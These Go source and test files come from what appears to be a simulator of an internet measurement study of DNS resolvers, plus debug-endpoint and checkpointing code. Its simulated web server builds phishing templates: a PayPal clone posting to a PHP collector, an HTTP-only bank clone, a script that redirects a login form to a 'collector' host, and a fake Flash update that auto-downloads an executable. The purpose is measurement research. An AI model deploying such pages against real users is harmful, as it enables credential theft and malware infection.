		{200, "Invalid request", "<h1>Invalid Hostname</h1><p>No site is configured at this address.</p>"},
	}
	v := variants[slot%len(variants)]
	p := &page{title: v.title}
	p.raw(v.body)
	return v.status, p.render()
}

// phishPayPal reconstructs the PayPal phishing page of §4.3: the body is
// 46 <img> tags reproducing the website plus a POST form toward a PHP
// credential collector.
func phishPayPal(slot int) string {
	p := &page{title: "PayPal - Log In"}
	for i := 0; i < 46; i++ {
		p.raw(fmt.Sprintf("<img src=\"slice_%02d.jpg\" class=\"s%d\">", i, i))
	}
	p.raw(fmt.Sprintf("<form action=\"gate%d.php\" method=\"POST\"><input type=\"text\" name=\"email\"><input type=\"password\" name=\"pw\"><button>Log In</button></form>", slot%3))
	return p.render()
}

// phishBank mimics the Italian banking site with an HTTP-only credential
// form.
func phishBank(domain string, hostCountry string) string {
	base := bankingPage(domain, 0xF00D)
	// Downgrade every HTTPS reference and swap the form target to the
	// collector, keeping the page structurally near-identical.
	out := strings.ReplaceAll(base, "https://"+domain, "http://"+domain)
	out = strings.Replace(out, fmt.Sprintf("action=\"http://%s/auth/login\"", domain),
		"action=\"collect.php\"", 1)
	out = strings.Replace(out, "</body>", fmt.Sprintf("<!-- mirror %s -->\n</body>", hostCountry), 1)
	return out
}

// phishGeneric produces a slightly modified copy of a banking page: same
// structure with an injected credential-forwarding script, the "small
// modification" the fine-grained diff clustering looks for (§3.6).
func phishGeneric(domain string, slot int) string {
	base := bankingPage(domain, 0xF00D)
	inject := fmt.Sprintf("<script type=\"text/javascript\">document.getElementById('login').action='http://collector-%d.example/p.php';</script>\n</body>", slot)
	return strings.Replace(base, "</body>", inject, 1)
}

// malwareUpdatePage renders the fake Flash/Java update pages whose
// download links serve malware droppers (§4.3).
func malwareUpdatePage(host string, slot int) string {
	product := "Adobe Flash Player"
	file := "flash_update.exe"
	if strings.Contains(host, "oracle") || strings.Contains(host, "java") {
		product = "Java Runtime Environment"
		file = "jre_setup.exe"
	}
	p := &page{title: product + " Update Required"}
	p.el("h1", "", fmt.Sprintf("Your %s is out of date", product))
	p.el("p", "", "A critical security update is available. Install it now to keep your computer protected.")
	p.raw(fmt.Sprintf("<a class=\"dl\" href=\"/%s?c=%d\"><img src=\"download_button.png\"></a>", file, slot))
	p.addScript(fmt.Sprintf("setTimeout(function(){location='/%s?auto=1';},3000);", file))
	return p.render()
}
