package websim

import (
	"strings"
	"testing"

	"goingwild/internal/devices"
	"goingwild/internal/wildnet"
)

func testServer(t *testing.T) (*Server, *wildnet.World) {
	t.Helper()
	w, err := wildnet.NewWorld(wildnet.DefaultConfig(16))
	if err != nil {
		t.Fatal(err)
	}
	return New(w, wildnet.At(50)), w
}

func TestCensorPageCarriesBlockingMarker(t *testing.T) {
	s, w := testServer(t)
	ip := w.CensorPageAddr("TR", 0)
	resp, ok := s.HTTP(ip, "youporn.com", false)
	if !ok {
		t.Fatal("censor page unreachable")
	}
	if !strings.Contains(resp.Body, "blocked by the order of") {
		t.Errorf("censor page lacks the marker text: %q", resp.Body[:120])
	}
	if !strings.Contains(resp.Body, "Turkish") {
		t.Error("censor page does not name the country")
	}
}

func TestLegitContentStablePerDomain(t *testing.T) {
	s, w := testServer(t)
	legit, _ := w.LegitAddrs("chase.com", "US")
	r1, ok1 := s.HTTP(legit[0], "chase.com", false)
	r2, ok2 := s.HTTP(legit[0], "chase.com", false)
	if !ok1 || !ok2 || r1.Body != r2.Body {
		t.Error("legitimate content not deterministic")
	}
	if !strings.Contains(r1.Body, "password") {
		t.Error("banking page lacks a login form")
	}
}

func TestCDNServesAnyCDNDomainWithSNICert(t *testing.T) {
	s, w := testServer(t)
	legit, _ := w.LegitAddrs("facebook.com", "VN")
	var cdnIP uint32
	for _, a := range legit {
		if role, _ := w.RoleOf(a); role == wildnet.RoleCDNNode {
			cdnIP = a
			break
		}
	}
	if cdnIP == 0 {
		t.Skip("no live CDN node for facebook in VN region")
	}
	cert, ok := s.Certificate(cdnIP, "facebook.com", true)
	if !ok || !cert.Valid || !cert.CoversName("facebook.com") {
		t.Errorf("SNI cert = %+v", cert)
	}
	def, ok := s.Certificate(cdnIP, "facebook.com", false)
	if !ok || !def.Valid || def.CommonName != "static.cdn-global.example" {
		t.Errorf("default cert = %+v", def)
	}
}

func TestDeadCDNServesNothing(t *testing.T) {
	s, w := testServer(t)
	ip := w.RoleAddr(wildnet.RoleDeadCDN, 3)
	if _, ok := s.HTTP(ip, "facebook.com", false); ok {
		t.Error("dead CDN node served content")
	}
}

func TestLANAddressesUnreachable(t *testing.T) {
	s, _ := testServer(t)
	if _, ok := s.HTTP(uint32(192)<<24|uint32(168)<<16|uint32(1)<<8|1, "chase.com", false); ok {
		t.Error("LAN address served content")
	}
}

func TestProxyServesOriginalContentForEverything(t *testing.T) {
	s, w := testServer(t)
	plain := w.RoleAddr(wildnet.RoleProxyPlain, 2)
	for _, host := range []string{"chase.com", "google.com", "kickass.to"} {
		resp, ok := s.HTTP(plain, host, false)
		if !ok {
			t.Fatalf("plain proxy refused %s", host)
		}
		if resp.Body != s.contentFor(host) {
			t.Errorf("proxy content for %s differs from origin", host)
		}
	}
	if _, ok := s.HTTP(plain, "chase.com", true); ok {
		t.Error("HTTP-only proxy accepted TLS")
	}
	tlsProxy := w.RoleAddr(wildnet.RoleProxyTLS, 1)
	cert, ok := s.Certificate(tlsProxy, "chase.com", true)
	if !ok || !cert.CoversName("chase.com") {
		t.Errorf("TLS proxy cert = %+v, %v", cert, ok)
	}
}

func TestPhishPayPalStructure(t *testing.T) {
	s, w := testServer(t)
	ip := w.RoleAddr(wildnet.RolePhishPayPal, 0)
	resp, ok := s.HTTP(ip, "paypal.com", false)
	if !ok {
		t.Fatal("phish host unreachable")
	}
	if got := strings.Count(resp.Body, "<img"); got != 46 {
		t.Errorf("phish page has %d <img> tags, want 46 (§4.3)", got)
	}
	if !strings.Contains(resp.Body, ".php") || !strings.Contains(resp.Body, "method=\"POST\"") {
		t.Error("phish page lacks the PHP POST form")
	}
	cert, ok := s.Certificate(ip, "paypal.com", true)
	if !ok || !cert.SelfSigned {
		t.Errorf("first phish hosts should serve self-signed certs: %+v, %v", cert, ok)
	}
	// Unrelated hosts get nothing interesting.
	resp, _ = s.HTTP(ip, "chase.com", false)
	if resp.Status != 404 {
		t.Errorf("phish host served %d for unrelated domain", resp.Status)
	}
}

func TestBankPhishHTTPOnly(t *testing.T) {
	s, w := testServer(t)
	for _, role := range []wildnet.Role{wildnet.RolePhishBankBR, wildnet.RolePhishBankRU} {
		ip := w.RoleAddr(role, 0)
		resp, ok := s.HTTP(ip, "intesasanpaolo.it", false)
		if !ok || !strings.Contains(resp.Body, "collect.php") {
			t.Errorf("%v: phish page missing collector form", role)
		}
		if _, ok := s.Certificate(ip, "intesasanpaolo.it", true); ok {
			t.Errorf("%v: bank phish should not accept HTTPS (§4.3)", role)
		}
	}
}

func TestMalwareDownloadDetonation(t *testing.T) {
	s, w := testServer(t)
	ip := w.RoleAddr(wildnet.RoleMalware, 5)
	resp, ok := s.HTTP(ip, "update.adobe.example", false)
	if !ok || !strings.Contains(resp.Body, "flash_update.exe") {
		t.Fatal("malware host lacks update page")
	}
	payload, ok := s.Download(ip, "/flash_update.exe")
	if !ok || !IsMalwareSample(payload) {
		t.Error("malware sample not flagged by detonation")
	}
	legit, _ := w.LegitAddrs("update.adobe.example", "DE")
	good, ok := s.Download(legit[0], "/flash_update.exe")
	if ok && IsMalwareSample(good) {
		t.Error("legitimate installer flagged as malware")
	}
}

func TestMailBanners(t *testing.T) {
	s, w := testServer(t)
	legit, _ := w.LegitAddrs("smtp.gmail.com", "US")
	banner, ok := s.MailBanner(legit[0], "smtp")
	if !ok || !strings.HasPrefix(banner, "220 ") {
		t.Errorf("legit SMTP banner = %q, %v", banner, ok)
	}
	sniff := w.RoleAddr(wildnet.RoleMailSniff, 0)
	mimic, ok := s.MailBanner(sniff, "smtp")
	if !ok {
		t.Fatal("sniffing mail host silent")
	}
	if mimic != banner {
		t.Errorf("first sniff hosts should mimic provider banners: %q vs %q", mimic, banner)
	}
	generic, ok := s.MailBanner(w.RoleAddr(wildnet.RoleMailSniff, 100), "smtp")
	if !ok || generic == banner {
		t.Errorf("later sniff hosts should run stock software: %q", generic)
	}
}

func TestSelfIPResolverServesRouterLogin(t *testing.T) {
	s, w := testServer(t)
	// Find a resolver with an HTTP-capable device.
	found := false
	for u := uint32(0); u < 1<<16; u++ {
		if m := w.DeviceAt(u, wildnet.At(50)); m != nil {
			if _, hasHTTP := m.Banners[devices.ProtoHTTP]; hasHTTP {
				resp, ok := s.HTTP(u, "chase.com", false)
				if ok && strings.Contains(resp.Body, "Login") {
					found = true
					break
				}
			}
		}
	}
	if !found {
		t.Error("no resolver served a device login page")
	}
}

func TestErrorPageFamilyStatuses(t *testing.T) {
	s, w := testServer(t)
	saw4xx, saw5xx := false, false
	for i := 0; i < 16; i++ {
		resp, ok := s.HTTP(w.RoleAddr(wildnet.RoleErrorPage, i), "anything.example", false)
		if !ok {
			t.Fatal("error-page host unreachable")
		}
		if resp.Status >= 400 && resp.Status < 500 {
			saw4xx = true
		}
		if resp.Status >= 500 {
			saw5xx = true
		}
	}
	if !saw4xx || !saw5xx {
		t.Error("error-page family missing 4xx or 5xx variants")
	}
}
