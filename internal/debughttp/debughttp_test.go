package debughttp

import (
	"io"
	"net/http"
	"strings"
	"testing"

	"goingwild/internal/metrics"
)

func get(t *testing.T, url string) string {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET %s: status %d", url, resp.StatusCode)
	}
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return string(body)
}

func TestServeRoutes(t *testing.T) {
	reg := metrics.New()
	reg.Counter("scanner.sweep.sent").Add(42)

	addr, stop, err := Serve("127.0.0.1:0", reg)
	if err != nil {
		t.Fatal(err)
	}
	defer stop()
	base := "http://" + addr

	if body := get(t, base+"/metrics"); !strings.Contains(body, "scanner_sweep_sent 42") {
		t.Errorf("/metrics missing counter:\n%s", body)
	}
	if body := get(t, base+"/metrics.json"); !strings.Contains(body, `"scanner.sweep.sent"`) {
		t.Errorf("/metrics.json missing counter:\n%s", body)
	}
	if body := get(t, base+"/debug/vars"); !strings.Contains(body, `"metrics"`) {
		t.Errorf("/debug/vars missing published metrics var:\n%s", body)
	}
	if body := get(t, base+"/debug/pprof/"); !strings.Contains(body, "goroutine") {
		t.Errorf("/debug/pprof/ index missing profiles:\n%s", body)
	}

	// The endpoint is live: a counter bumped after Serve shows up in the
	// next scrape.
	reg.Counter("scanner.sweep.sent").Add(8)
	if body := get(t, base+"/metrics"); !strings.Contains(body, "scanner_sweep_sent 50") {
		t.Errorf("/metrics not live:\n%s", body)
	}
}
