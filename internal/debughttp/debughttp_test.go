package debughttp

import (
	"io"
	"net/http"
	"strings"
	"testing"

	"goingwild/internal/metrics"
)

func get(t *testing.T, url string) string {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET %s: status %d", url, resp.StatusCode)
	}
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return string(body)
}

func TestServeRoutes(t *testing.T) {
	reg := metrics.New()
	reg.Counter("scanner.sweep.sent").Add(42)

	addr, stop, err := Serve("127.0.0.1:0", reg)
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := stop(); err != nil {
			t.Errorf("stop: %v", err)
		}
	}()
	base := "http://" + addr

	if body := get(t, base+"/metrics"); !strings.Contains(body, "scanner_sweep_sent 42") {
		t.Errorf("/metrics missing counter:\n%s", body)
	}
	if body := get(t, base+"/metrics.json"); !strings.Contains(body, `"scanner.sweep.sent"`) {
		t.Errorf("/metrics.json missing counter:\n%s", body)
	}
	if body := get(t, base+"/debug/vars"); !strings.Contains(body, `"metrics"`) {
		t.Errorf("/debug/vars missing published metrics var:\n%s", body)
	}
	if body := get(t, base+"/debug/pprof/"); !strings.Contains(body, "goroutine") {
		t.Errorf("/debug/pprof/ index missing profiles:\n%s", body)
	}

	// The endpoint is live: a counter bumped after Serve shows up in the
	// next scrape.
	reg.Counter("scanner.sweep.sent").Add(8)
	if body := get(t, base+"/metrics"); !strings.Contains(body, "scanner_sweep_sent 50") {
		t.Errorf("/metrics not live:\n%s", body)
	}
}

// TestServeSecondRegistry is the regression test for the registry
// pinning bug: publishOnce used to capture the first Serve's registry
// in the expvar closure forever, so a second Serve with a different
// registry kept exposing the stale registry's snapshot under
// /debug/vars.
func TestServeSecondRegistry(t *testing.T) {
	reg1 := metrics.New()
	reg1.Counter("first.registry.marker").Add(1)
	addr1, stop1, err := Serve("127.0.0.1:0", reg1)
	if err != nil {
		t.Fatal(err)
	}
	if body := get(t, "http://"+addr1+"/debug/vars"); !strings.Contains(body, "first.registry.marker") {
		t.Fatalf("/debug/vars missing first registry's counter:\n%s", body)
	}
	if err := stop1(); err != nil {
		t.Fatalf("stop1: %v", err)
	}

	reg2 := metrics.New()
	reg2.Counter("second.registry.marker").Add(7)
	addr2, stop2, err := Serve("127.0.0.1:0", reg2)
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := stop2(); err != nil {
			t.Errorf("stop2: %v", err)
		}
	}()
	body := get(t, "http://"+addr2+"/debug/vars")
	if !strings.Contains(body, "second.registry.marker") {
		t.Errorf("/debug/vars still pinned to the first registry:\n%s", body)
	}
	if strings.Contains(body, "first.registry.marker") {
		t.Errorf("/debug/vars leaks the stale first registry:\n%s", body)
	}
}

// TestServeExtraRoutes proves the Route seam a service mounts its query
// API on.
func TestServeExtraRoutes(t *testing.T) {
	reg := metrics.New()
	addr, stop, err := Serve("127.0.0.1:0", reg, Route{
		Pattern: "/hello",
		Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			io.WriteString(w, "svc-route-ok")
		}),
	})
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := stop(); err != nil {
			t.Errorf("stop: %v", err)
		}
	}()
	if body := get(t, "http://"+addr+"/hello"); body != "svc-route-ok" {
		t.Errorf("extra route body = %q", body)
	}
	// The built-in routes still serve alongside the extras.
	if body := get(t, "http://"+addr+"/metrics.json"); !strings.Contains(body, "{") {
		t.Errorf("/metrics.json broken with extra routes:\n%s", body)
	}
}

// TestServeTimeoutsConfigured asserts the long-running hardening is in
// place: stop is graceful (in-flight request finishes) and idempotent
// resources are released (the address becomes bindable again).
func TestServeStopReleasesListener(t *testing.T) {
	reg := metrics.New()
	addr, stop, err := Serve("127.0.0.1:0", reg)
	if err != nil {
		t.Fatal(err)
	}
	if err := stop(); err != nil {
		t.Fatalf("stop: %v", err)
	}
	// The port is free again: a fresh Serve can bind the exact address.
	_, stop2, err := Serve(addr, reg)
	if err != nil {
		t.Fatalf("rebind %s after stop: %v", addr, err)
	}
	if err := stop2(); err != nil {
		t.Errorf("stop2: %v", err)
	}
}
