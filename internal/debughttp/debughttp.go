// Package debughttp serves the opt-in operator debug endpoint: expvar,
// pprof, and the metrics registry in both Prometheus text and JSON
// form. Only the cmd entrypoints wire it (behind -debug-addr); no
// library code starts, or even imports, an HTTP server — observability
// stays a side channel the measurement stack cannot depend on.
package debughttp

import (
	"expvar"
	"net"
	"net/http"
	"net/http/pprof"
	"sync"

	"goingwild/internal/metrics"
)

// publishOnce guards the process-wide expvar name (expvar.Publish
// panics on re-registration; tests may Serve more than once).
var publishOnce sync.Once

// Serve starts the debug endpoint on addr (e.g. "localhost:6060"; a
// ":0" port picks a free one) and returns the bound address plus a stop
// function. Routes:
//
//	/metrics       — Prometheus text exposition of the registry
//	/metrics.json  — the same snapshot as indented JSON
//	/debug/vars    — expvar (includes the snapshot under "metrics")
//	/debug/pprof/  — the standard pprof handlers
func Serve(addr string, reg *metrics.Registry) (string, func(), error) {
	publishOnce.Do(func() {
		expvar.Publish("metrics", expvar.Func(func() any { return reg.Snapshot() }))
	})
	mux := http.NewServeMux()
	mux.HandleFunc("/metrics", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4")
		reg.Snapshot().WritePrometheus(w)
	})
	mux.HandleFunc("/metrics.json", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		reg.Snapshot().WriteJSON(w)
	})
	mux.Handle("/debug/vars", expvar.Handler())
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)

	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return "", nil, err
	}
	srv := &http.Server{Handler: mux}
	go func() {
		srv.Serve(ln)
	}()
	return ln.Addr().String(), func() { srv.Close() }, nil
}
