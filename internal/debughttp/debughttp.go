// Package debughttp serves the opt-in operator debug endpoint: expvar,
// pprof, and the metrics registry in both Prometheus text and JSON
// form. Only the cmd entrypoints wire it (behind -debug-addr, and as
// the HTTP seam cmd/wildsvc mounts its query API on); no library code
// starts, or even imports, an HTTP server — observability stays a side
// channel the measurement stack cannot depend on.
package debughttp

import (
	"context"
	"errors"
	"expvar"
	"net"
	"net/http"
	"net/http/pprof"
	"sync"
	"sync/atomic"
	"time"

	"goingwild/internal/metrics"
)

// publishOnce guards the process-wide expvar name (expvar.Publish
// panics on re-registration; tests may Serve more than once). The
// registry itself is NOT captured by the published closure: it reads
// currentReg, which every Serve call updates, so a second Serve with a
// different registry exposes that registry's snapshot under
// /debug/vars instead of silently pinning the first one forever.
var publishOnce sync.Once

// currentReg is the registry the expvar "metrics" var snapshots:
// always the one passed to the most recent Serve call.
var currentReg atomic.Pointer[metrics.Registry]

// Route is an extra handler mounted on the debug mux — the seam a
// long-running service (cmd/wildsvc) uses to serve its query API on
// the same listener as the operator endpoints.
type Route struct {
	Pattern string
	Handler http.Handler
}

// shutdownTimeout bounds the graceful drain Serve's stop function
// performs: in-flight requests get this long to finish before the
// server is torn down hard.
const shutdownTimeout = 5 * time.Second

// Serve starts the debug endpoint on addr (e.g. "localhost:6060"; a
// ":0" port picks a free one) and returns the bound address plus a stop
// function. Routes:
//
//	/metrics       — Prometheus text exposition of the registry
//	/metrics.json  — the same snapshot as indented JSON
//	/debug/vars    — expvar (includes the snapshot under "metrics")
//	/debug/pprof/  — the standard pprof handlers
//
// plus any extra routes the caller mounts. The server is hardened for
// long-running use: ReadHeaderTimeout and IdleTimeout bound what a
// slow or idle client can hold open (ReadTimeout/WriteTimeout stay
// zero on purpose — /debug/pprof/profile?seconds=30 streams for as
// long as the client asked). The stop function drains in-flight
// requests gracefully for up to shutdownTimeout, then closes hard,
// and reports the first error the server hit — a failed Serve loop or
// a failed shutdown — instead of dropping it.
func Serve(addr string, reg *metrics.Registry, extra ...Route) (string, func() error, error) {
	currentReg.Store(reg)
	publishOnce.Do(func() {
		expvar.Publish("metrics", expvar.Func(func() any {
			if r := currentReg.Load(); r != nil {
				return r.Snapshot()
			}
			return nil
		}))
	})
	mux := http.NewServeMux()
	mux.HandleFunc("/metrics", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4")
		reg.Snapshot().WritePrometheus(w)
	})
	mux.HandleFunc("/metrics.json", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		reg.Snapshot().WriteJSON(w)
	})
	mux.Handle("/debug/vars", expvar.Handler())
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	for _, r := range extra {
		mux.Handle(r.Pattern, r.Handler)
	}

	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return "", nil, err
	}
	srv := &http.Server{
		Handler:           mux,
		ReadHeaderTimeout: 5 * time.Second,
		IdleTimeout:       2 * time.Minute,
	}
	serveErr := make(chan error, 1)
	go func() {
		serveErr <- srv.Serve(ln)
	}()
	stop := func() error {
		//lint:allow ctxhygiene shutdown outlives every caller context; the drain deadline is the only bound
		ctx, cancel := context.WithTimeout(context.Background(), shutdownTimeout)
		defer cancel()
		shutErr := srv.Shutdown(ctx)
		if shutErr != nil {
			// The drain deadline passed (or the context died): tear the
			// server down hard so stop never leaks the listener.
			// Shutdown already reported the failure; Close is the
			// best-effort fallback.
			srv.Close()
		}
		// Serve returns ErrServerClosed on a clean Shutdown/Close; any
		// other error (a listener failure mid-run) is surfaced.
		err := <-serveErr
		if errors.Is(err, http.ErrServerClosed) {
			err = nil
		}
		if err != nil {
			return err
		}
		return shutErr
	}
	return ln.Addr().String(), stop, nil
}
