package checkpoint

import (
	"encoding/json"
	"fmt"
)

// Version is the State schema version; a checkpoint written by a
// different schema is treated as unusable rather than misread.
const Version = 1

// State is everything a resumed run needs. It is one JSON document —
// saved and loaded as a unit, never patched in place — so a checkpoint
// is always internally consistent: the section journal, the named data
// documents, and the fingerprint all describe the same instant.
type State struct {
	// Version is the schema version (must equal Version).
	Version int `json:"version"`
	// Fingerprint identifies the run configuration (order, seed, weeks,
	// flags, ...). A resume refuses a checkpoint whose fingerprint does
	// not match the current invocation: resuming an order-18 run with
	// order-16 flags would silently produce garbage otherwise.
	Fingerprint string `json:"fingerprint"`
	// Sections journals completed report sections in output order, each
	// with its rendered stdout text. A resumed run re-emits the journal
	// verbatim and picks up at the first unfinished section, which is
	// what makes the final stdout byte-identical to an uninterrupted run.
	Sections []Section `json:"sections,omitempty"`
	// Data holds named mid-section state documents (an in-flight sweep,
	// the weekly-series cursor and tracker) owned by whichever subsystem
	// wrote them.
	Data map[string]json.RawMessage `json:"data,omitempty"`
}

// Section is one completed report section: its name and the exact bytes
// it contributed to stdout.
type Section struct {
	Name   string `json:"name"`
	Output string `json:"output"`
}

// NewState builds an empty state for a fresh checkpointed run.
func NewState(fingerprint string) *State {
	return &State{Version: Version, Fingerprint: fingerprint}
}

// SectionDone reports whether the named section is already journaled.
func (st *State) SectionDone(name string) (Section, bool) {
	for _, s := range st.Sections {
		if s.Name == name {
			return s, true
		}
	}
	return Section{}, false
}

// Put stores v as the named data document.
func (st *State) Put(name string, v any) error {
	raw, err := json.Marshal(v)
	if err != nil {
		return fmt.Errorf("checkpoint: encode %q: %w", name, err)
	}
	if st.Data == nil {
		st.Data = make(map[string]json.RawMessage)
	}
	st.Data[name] = raw
	return nil
}

// Get decodes the named data document into v; ok is false when the
// document is absent.
func (st *State) Get(name string, v any) (bool, error) {
	raw, present := st.Data[name]
	if !present {
		return false, nil
	}
	if err := json.Unmarshal(raw, v); err != nil {
		return false, fmt.Errorf("checkpoint: decode %q: %w", name, err)
	}
	return true, nil
}

// Drop removes the named data document (a no-op when absent).
func (st *State) Drop(name string) {
	delete(st.Data, name)
}
