package checkpoint

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"os/signal"
	"sync"
)

// ErrStopped reports an orderly first-signal stop: the run drained to a
// safe point, saved a checkpoint, and exited early on purpose. Commands
// translate it into a distinct exit status (3) so scripts can tell
// "checkpointed, resume me" from success and from failure.
var ErrStopped = errors.New("checkpoint: run stopped; resume with -resume")

// Runner drives a checkpointed run: it owns the State, serializes every
// mutation and Save behind one mutex (sections complete on the main
// goroutine while sweep progress saves arrive from scan workers), and
// journals each completed report section together with the exact bytes
// it wrote to stdout.
type Runner struct {
	mu    sync.Mutex
	store *Store
	st    *State
	out   io.Writer
	stop  chan struct{} // closed by the first interrupt
	once  sync.Once
}

// NewRunner wraps a store and a state (freshly created or loaded).
// Section output is written to out.
func NewRunner(store *Store, st *State, out io.Writer) *Runner {
	return &Runner{store: store, st: st, out: out, stop: make(chan struct{})}
}

// Section runs one report section with resume semantics. A section
// already present in the journal is not re-run: its recorded output is
// re-emitted verbatim. Otherwise fn renders the section into w; on
// success the output is journaled, the checkpoint saved, and only then
// written to stdout — so a crash at any point either re-runs the whole
// section (not yet journaled) or replays its exact bytes (journaled).
// Between sections, a pending stop request surfaces as ErrStopped.
func (r *Runner) Section(name string, fn func(w io.Writer) error) error {
	r.mu.Lock()
	done, journaled := r.st.SectionDone(name)
	r.mu.Unlock()
	if journaled {
		_, err := io.WriteString(r.out, done.Output)
		return err
	}
	if r.Stopping() {
		return ErrStopped
	}
	var buf bytes.Buffer
	if err := fn(&buf); err != nil {
		return err
	}
	r.mu.Lock()
	r.st.Sections = append(r.st.Sections, Section{Name: name, Output: buf.String()})
	err := r.store.Save(r.st)
	r.mu.Unlock()
	if err != nil {
		return err
	}
	_, err = r.out.Write(buf.Bytes())
	return err
}

// Done reports whether the named section is already journaled, i.e. a
// Section call would replay it instead of running it.
func (r *Runner) Done(name string) bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	_, ok := r.st.SectionDone(name)
	return ok
}

// Update stores v as the named data document and saves a generation.
// Scan workers call this mid-section (sweep progress, series cursor),
// so it is safe under concurrency with Section.
func (r *Runner) Update(name string, v any) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	if err := r.st.Put(name, v); err != nil {
		return err
	}
	return r.store.Save(r.st)
}

// Fetch decodes the named data document into v (ok=false when absent).
func (r *Runner) Fetch(name string, v any) (bool, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.st.Get(name, v)
}

// Drop removes the named data document from the in-memory state; the
// removal reaches disk with the next Save (typically the owning
// section's completion).
func (r *Runner) Drop(name string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.st.Drop(name)
}

// RequestStop asks the run to checkpoint and exit at the next safe
// point (section boundary or sweep rendezvous).
func (r *Runner) RequestStop() {
	r.once.Do(func() { close(r.stop) })
}

// Stopping reports whether a stop has been requested.
func (r *Runner) Stopping() bool {
	select {
	case <-r.stop:
		return true
	default:
		return false
	}
}

// CheckStop is the save-callback guard scan code composes with its
// Save function: after a successful checkpoint it converts a pending
// stop request into ErrStopped, which unwinds the scan with the
// just-saved state intact.
func (r *Runner) CheckStop() error {
	if r.Stopping() {
		return ErrStopped
	}
	return nil
}

// InstallSignals arranges two-phase interrupt handling for a
// checkpointed run: the first SIGINT requests an orderly stop (drain to
// the next rendezvous, save, exit via ErrStopped), the second cancels
// hard through cancel. The returned function uninstalls the handler.
func (r *Runner) InstallSignals(cancel context.CancelFunc) func() {
	ch := make(chan os.Signal, 2)
	signal.Notify(ch, os.Interrupt)
	done := make(chan struct{})
	go func() {
		select {
		case <-ch:
			fmt.Fprintln(os.Stderr, "interrupt: checkpointing at next safe point (interrupt again to abort)")
			r.RequestStop()
		case <-done:
			return
		}
		select {
		case <-ch:
			cancel()
		case <-done:
		}
	}()
	return func() {
		signal.Stop(ch)
		close(done)
	}
}
