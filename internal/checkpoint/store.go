package checkpoint

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
)

// Store persists State snapshots as numbered generations in one
// directory: ckpt-000001, ckpt-000002, ... Each Save writes a brand-new
// generation atomically — temp file, fsync, rename, directory fsync —
// and then prunes all but the newest keepGenerations files. Load walks
// generations newest-first and returns the first one that decodes
// clean, so a crash at any instant (including mid-rename or mid-prune)
// leaves at least one intact snapshot behind.
type Store struct {
	dir string
	// gen is the generation number of the last snapshot written (or
	// found); the next Save writes gen+1.
	gen uint64
}

// keepGenerations is how many snapshot files survive pruning. Two is
// the minimum that tolerates a torn newest file.
const keepGenerations = 2

const genPrefix = "ckpt-"

// Open prepares dir (creating it if needed) and positions the store
// after the newest existing generation.
func Open(dir string) (*Store, error) {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("checkpoint: %w", err)
	}
	s := &Store{dir: dir}
	gens, err := s.generations()
	if err != nil {
		return nil, err
	}
	if len(gens) > 0 {
		s.gen = gens[len(gens)-1]
	}
	return s, nil
}

// Dir returns the store's directory.
func (s *Store) Dir() string { return s.dir }

// generations lists the on-disk generation numbers in ascending order.
func (s *Store) generations() ([]uint64, error) {
	entries, err := os.ReadDir(s.dir)
	if err != nil {
		return nil, fmt.Errorf("checkpoint: %w", err)
	}
	var gens []uint64
	for _, e := range entries {
		name := e.Name()
		if !strings.HasPrefix(name, genPrefix) {
			continue
		}
		n, err := strconv.ParseUint(strings.TrimPrefix(name, genPrefix), 10, 64)
		if err != nil {
			continue
		}
		gens = append(gens, n)
	}
	sort.Slice(gens, func(i, j int) bool { return gens[i] < gens[j] })
	return gens, nil
}

func (s *Store) genPath(n uint64) string {
	return filepath.Join(s.dir, fmt.Sprintf("%s%06d", genPrefix, n))
}

// Save writes st as the next generation. The write is atomic and
// durable: the envelope goes to a temp file in the same directory,
// which is fsynced before the rename so the rename can never publish
// an incompletely-written file, and the directory is fsynced after so
// the new name itself survives a crash.
func (s *Store) Save(st *State) error {
	payload, err := json.Marshal(st)
	if err != nil {
		return fmt.Errorf("checkpoint: encode state: %w", err)
	}
	blob := Encode(payload)
	f, err := os.CreateTemp(s.dir, ".tmp-ckpt-*")
	if err != nil {
		return fmt.Errorf("checkpoint: %w", err)
	}
	tmp := f.Name()
	if _, err = f.Write(blob); err == nil {
		err = f.Sync()
	}
	if cerr := f.Close(); err == nil {
		err = cerr
	}
	if err != nil {
		os.Remove(tmp)
		return fmt.Errorf("checkpoint: write %s: %w", tmp, err)
	}
	next := s.gen + 1
	if err := os.Rename(tmp, s.genPath(next)); err != nil {
